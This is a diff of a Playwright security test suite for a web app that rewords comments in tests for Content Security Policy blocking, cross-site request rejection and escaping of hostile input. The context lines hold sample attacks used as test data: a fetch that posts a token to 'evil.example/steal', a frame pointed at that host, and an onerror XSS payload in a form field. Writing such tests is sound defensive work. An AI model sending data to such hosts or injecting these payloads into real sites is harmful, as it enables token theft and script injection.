@@ -11,7 +11,7 @@ test('blocks injected scripts: inline, as a handler, as a link, from another hos
   adminToken,
   allowErrors,
 }) => {
-  // The frame that the policy empties has no storage, and the image is not there.
+  // The blocked frame has no storage, and the image doesn't exist.
   allowErrors(/Content Security Policy|request to another host|localStorage|404/);
   await page.addInitScript((token) => localStorage.setItem('admin-token', token), adminToken);
   for (const address of ['/pricing', '/admin']) {
@@ -48,7 +48,7 @@ test('blocks injected scripts: inline, as a handler, as a link, from another hos
       frame.src = 'https://evil.example/';
       document.body.append(frame);
       await fetch('https://evil.example/steal', { method: 'POST', body: 'token' }).catch(() => undefined);
-      // The frame's report comes last, and on a busy machine late; a moment more, for what should not come.
+      // The frame's report comes last. Wait a little longer for reports that must not come.
       for (let waited = 0; waited < 5000 && !seen.some((one) => one.startsWith('frame-src')); waited += 50)
         await new Promise((resolve) => setTimeout(resolve, 50));
       await new Promise((resolve) => setTimeout(resolve, 100));
@@ -64,7 +64,7 @@ test('blocks injected scripts: inline, as a handler, as a link, from another hos
       'script-src-attr enforce',
       'script-src-elem enforce',
     ]);
-    // The inline script, the data: one, the foreign one and the javascript: link.
+    // Inline script, data: script, foreign script and javascript: link.
     expect(violations.filter((one) => one.startsWith('script-src-elem')).length).toBe(4);
     expect(violations.filter((one) => one.startsWith('script-src-attr')).length).toBe(2);
   }
@@ -80,7 +80,7 @@ test('rejects requests from another site’s page with a visitor’s cookies [HT
   allowErrors(/./);
   const site = String(baseURL);
   await page.goto('/flows');
-  // The list's answer makes the visitor who the flow is stored for.
+  // The list's response sets the cookie of the workspace that owns the flow.
   await expect(page.getByRole('heading', { name: 'No conversation flows yet' })).toBeVisible();
   const name = unique('Mine');
   const flow = await page.evaluate(
@@ -146,7 +146,7 @@ test('rejects requests from another site’s page with a visitor’s cookies [HT
             },
             () => undefined,
           );
-          // The old way: a form whose text/plain body reads like JSON.
+          // A form whose text/plain body parses as JSON.
           const form = document.createElement('form');
           form.method = 'POST';
           form.enctype = 'text/plain';
@@ -216,7 +216,7 @@ test('shows hostile input as text on every screen [HTTP-028]', async ({
     expect((await api('POST', '/api/consultations', booking)).status).toBe(201);
   }
   const headers = { 'x-admin-session': adminToken };
-  // What looks like spam becomes no project, so this one is added by hand.
+  // Spam creates no project, so add this one by hand.
   const client = {
     companyName: `${tag} <img src=x onerror=window.hit=1>`,
     clientName: short[20],
@@ -274,7 +274,7 @@ test('shows hostile input as text on every screen [HTTP-028]', async ({
     dialogs += 1;
     void dialog.dismiss();
   });
-  /** Nothing of ours has a handler in markup, a frame, a form to elsewhere or an address that runs something. */
+  /** Expects no inline handlers, frames, forms to other hosts or executable URLs. */
   const expectClean = async () => {
     const found = await page.evaluate(() => ({
       hit: (window as { hit?: number }).hit,
@@ -356,7 +356,7 @@ test('reloads once and keeps typed text when a new version replaced the page’s
   page.on('request', (request) => {
     if (request.isNavigationRequest() && request.frame() === page.mainFrame()) documents += 1;
   });
-  // The old files are gone for this page; the next document names new ones, which are there.
+  // This page's old files are gone; the next document names existing ones.
   await page.route('**/assets/*.js', (route) =>
     documents === 0 ? route.fulfill({ status: 404, body: 'gone' }) : route.continue(),
   );
@@ -365,7 +365,7 @@ test('reloads once and keeps typed text when a new version replaced the page’s
   await reloaded;
   await expect(page).toHaveURL(/\/blog$/);
   await hydrate(page);
-  // The visitor goes on where they wanted to, and finds everything when they return.
+  // The visitor continues to the next page and finds the text on return.
   await page.getByRole('link', { name: 'Contact' }).first().click();
   await expect(page.getByLabel('First name')).toHaveValue('Zoë');
   await expect(page.getByRole('textbox', { name: 'Message', exact: true })).toHaveValue(
